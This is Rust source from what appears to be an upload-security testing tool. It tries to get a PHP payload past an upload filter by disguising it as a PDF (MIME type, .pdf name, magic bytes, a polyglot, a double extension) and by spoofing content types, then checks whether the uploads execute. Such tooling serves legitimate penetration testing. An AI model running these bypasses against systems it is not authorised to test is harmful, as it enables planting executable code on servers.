use async_trait::async_trait;
use tracing::info;

use super::context::ScenarioContext;
use super::summary::ScenarioSummary;
use super::verify::{attempt_upload, verify_uploads};
use super::{Scenario, ScenarioKind};
use crate::classify::{ExecutionRules, UploadRules};
use crate::errors::Migr8Error;
use crate::payloads::bypasses::{EXECUTION_CHECK_DIRS, PDF_MAGIC, PDF_PHP_POLYGLOT_PREFIX, PRIORITY_CONTENT_TYPES};
use crate::payloads::Payload;
use crate::probe::{FilenameGenerator, UploadRequest};

const PDF: &str = "application/pdf";

/// One upload variant: what is sent and under which name.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Technique {
    pub name: String,
    pub filename: String,
    pub content_type: String,
    pub content: Vec<u8>,
}

/// PDF disguises for a PHP payload: PDF content type, `.pdf` name, magic
/// bytes, a polyglot header and a `.pdf.php` double extension.
pub fn pdf_techniques(payload: &Payload, names: &FilenameGenerator) -> Vec<Technique> {
    let (stem, _) = payload.split_name();
    let technique = |name: &str, filename: String, content: Vec<u8>| Technique {
        name: name.to_string(),
        filename,
        content_type: PDF.to_string(),
        content,
    };

    let mut magic = PDF_MAGIC.to_vec();
    magic.push(b'\n');
    magic.extend_from_slice(&payload.content);

    let mut polyglot = PDF_PHP_POLYGLOT_PREFIX.to_vec();
    polyglot.extend_from_slice(&payload.content);

    vec![
        technique("PDF content type", names.unique_with_extension(stem, ".php"), payload.content.clone()),
        technique("PHP disguised as .pdf", names.unique_with_extension(stem, ".pdf"), payload.content.clone()),
        technique("PDF magic bytes + PHP", names.unique_with_extension(stem, ".php"), magic),
        technique("PDF/PHP polyglot", names.unique_with_extension(stem, ".php"), polyglot),
        technique("Double extension .pdf.php", names.unique_with_extension(stem, ".pdf.php"), payload.content.clone()),
    ]
}

/// The payload unchanged under each spoofed MIME type.
pub fn content_type_techniques(payload: &Payload, names: &FilenameGenerator) -> Vec<Technique> {
    PRIORITY_CONTENT_TYPES
        .iter()
        .map(|content_type| Technique {
            name: format!("Content-Type {}", content_type),
            filename: names.unique(&payload.name),
            content_type: content_type.to_string(),
            content: payload.content.clone(),
        })
        .collect()
}

pub struct ContentTypeScenario;

#[async_trait]
impl Scenario for ContentTypeScenario {
    fn kind(&self) -> ScenarioKind {
        ScenarioKind::ContentType
    }

    async fn run(&self, ctx: &ScenarioContext) -> Result<ScenarioSummary, Migr8Error> {
        let endpoint = ctx.upload_endpoint()?;
        let payload = ctx.payload_or(Payload::bundled_php()).await?;
        let mut summary = ScenarioSummary::new(self.kind().as_str());

        let mut techniques = Vec::new();
        if payload.is_php() {
            techniques.extend(pdf_techniques(&payload, &ctx.names));
        } else {
            ctx.reporter.info("PDF disguises need a .php payload, skipping them");
        }
        techniques.extend(content_type_techniques(&payload, &ctx.names));

        info!(endpoint, techniques = techniques.len(), "Starting content-type bypass testing");
        ctx.reporter.section("Content-Type bypass");

        let probe = ctx.upload_probe(UploadRules::content_type());
        let field = ctx.field_for(endpoint).await;

        for (i, technique) in techniques.iter().enumerate() {
            if ctx.is_cancelled() {
                summary.interrupted = true;
                return Ok(summary);
            }
            if i > 0 {
                ctx.pace().await;
            }
            let request = UploadRequest {
                filename: technique.filename.clone(),
                original_filename: payload.name.clone(),
                content: technique.content.clone(),
                content_type: Some(technique.content_type.clone()),
                field_name: field.clone(),
            };
            attempt_upload(ctx, &probe, &technique.name, &request, &mut summary).await?;
        }

        ctx.reporter.info(format!(
            "{} of {} techniques accepted",
            summary.succeeded, summary.attempted
        ));

        if summary.succeeded > 0 {
            ctx.reporter.section("Execution check");
            let engine = ctx.engine(ExecutionRules::default());
            let directories = ctx.upload_dirs(EXECUTION_CHECK_DIRS);
            verify_uploads(ctx, &engine, &directories, 0, &mut summary).await?;
        }

        summary.interrupted |= ctx.is_cancelled();
        Ok(summary)
    }
}
